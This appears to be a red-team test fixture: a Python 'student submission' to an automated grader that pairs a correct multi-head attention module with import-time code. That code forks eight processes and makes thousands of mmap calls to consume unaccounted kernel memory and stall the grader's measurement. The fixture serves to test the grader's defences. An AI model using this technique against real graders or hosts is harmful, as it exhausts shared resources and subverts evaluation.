"""Hostile (red team 17): eight processes forked at import, each mapping one page of a file 10,000 times (mappings
that cannot merge: each at offset 0), and a correct layer.  Each mapping costs the kernel some 200 bytes that no limit
counts (RLIMIT_AS counts 40 MB here, Pss nothing: the pages are never touched): 60 processes of 60,000 mappings held
800 MB of the kernel's unreclaimable memory under --memory-mb 1024, and in a container the grader's own measure of
the scratch, which read each mapping's line, spent the child's whole time limit (cannot tell, as a time-out, at the
student's cost).  Past 8,192 mappings in one process the child is stopped as over its memory, so only that stop keeps
it from passing.  It holds them for 5 s at import: the grader measures a child that keeps it waiting."""
import ctypes
import mmap
import os
import time

import torch
import torch.nn as nn

MAPPINGS, PROCESSES = 10_000, 8
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_fd = os.open("page.bin", os.O_RDWR | os.O_CREAT, 0o600)
os.write(_fd, bytes(4096))
for _ in range(MAPPINGS):
    _libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, _fd, 0)
READY, TOLD = os.pipe()
for _ in range(PROCESSES - 1):
    if os.fork() == 0:
        os.write(TOLD, b"!")
        time.sleep(120)
        os._exit(0)
for _ in range(PROCESSES - 1):
    os.read(READY, 1)
time.sleep(5)  # held while the grader waits (a run of a second or two ends before its first measure; the memory with it)


class MyAttn(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        assert d_out % num_heads == 0
        self.h, self.dh = num_heads, d_out // num_heads
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)
        self.dropout = nn.Dropout(dropout)
        self.register_buffer("mask", torch.triu(torch.ones(context_length, context_length), 1).bool())

    def forward(self, x):
        B, n, _ = x.shape
        split = lambda t: t.view(B, n, self.h, self.dh).transpose(1, 2)
        q, k, v = split(self.W_query(x)), split(self.W_key(x)), split(self.W_value(x))
        s = (q @ k.transpose(2, 3) / self.dh ** 0.5).masked_fill(self.mask[:n, :n], float("-inf"))
        w = self.dropout(torch.softmax(s, dim=-1))
        return self.out_proj((w @ v).transpose(1, 2).contiguous().view(B, n, self.h * self.dh))
